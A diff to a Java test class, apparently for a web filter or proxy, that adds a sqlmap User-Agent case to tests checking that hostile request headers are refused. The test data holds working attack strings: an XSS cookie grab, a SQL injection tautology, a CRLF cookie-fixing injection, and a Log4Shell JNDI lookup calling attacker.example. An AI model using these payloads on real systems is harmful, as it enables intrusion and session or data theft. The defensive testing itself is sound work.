@@ -77,12 +77,14 @@ class RequestHeadServeTest {
         "referer|/|Referer|attack.xss|header:referer",
         "cookie|/|Cookie|attack.sqli|cookie:id",
         "crlf|/set-lang?lang=en%0d%0aSet-Cookie:%20sid=fixed||attack.crlf|query:lang",
+        "scanner|/|User-Agent|attack.scanner|header:user-agent",
     })
     void anAttackInTheHeadIsRefusedBeforeTheUpstream(String where, String target, String header, String id,
                                                     String path) throws Exception {
         String value = switch (where) {
             case "referer" -> "https://shop.example/<script>alert(document.cookie)</script>";
             case "cookie" -> "theme=dark; id=1' OR '1'='1";
+            case "scanner" -> "sqlmap/1.7.4#stable (https://sqlmap.org)";
             default -> "${jndi:ldap://attacker.example/a}";
         };
         int before = RECEIVED.size();
